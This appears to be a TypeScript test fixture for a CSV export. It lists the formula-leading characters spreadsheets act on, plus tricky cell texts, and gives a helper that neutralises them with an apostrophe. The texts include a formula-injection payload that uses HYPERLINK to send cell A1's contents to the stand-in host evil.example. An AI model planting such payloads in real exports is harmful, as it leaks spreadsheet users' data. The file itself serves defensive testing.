// Texts that break naive CSV writers and spreadsheets, shared by the export's unit and end-to-end tests.

/** What spreadsheets (Excel, LibreOffice, Google Sheets, Numbers) run as a formula when a cell starts with it. */
export const FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];

/** Every separator the export offers, quotes, line breaks, and each formula lead, alone and leading a payload. */
export const HOSTILE_TEXTS = [
  "a;b",
  "a,b",
  "a\tb",
  'say "cheese"',
  '"',
  "line\r\nbreak",
  "line\nbreak",
  "line\rbreak",
  "'already quoted",
  " =1+1",
  ...FORMULA_LEADS.map((lead) => `${lead}HYPERLINK("http://evil.example/?x="&A1;"click")`),
  ...FORMULA_LEADS.map((lead) => `${lead}1,2;3\t4"5"\r\n6`),
  ...FORMULA_LEADS,
];

export const startsWithFormulaLead = (cell: string): boolean => FORMULA_LEADS.some((lead) => cell.startsWith(lead));

/** What a spreadsheet user must see: the text itself, behind an apostrophe when it would otherwise run. */
export const defused = (text: string): string => (startsWithFormulaLead(text) ? `'${text}` : text);
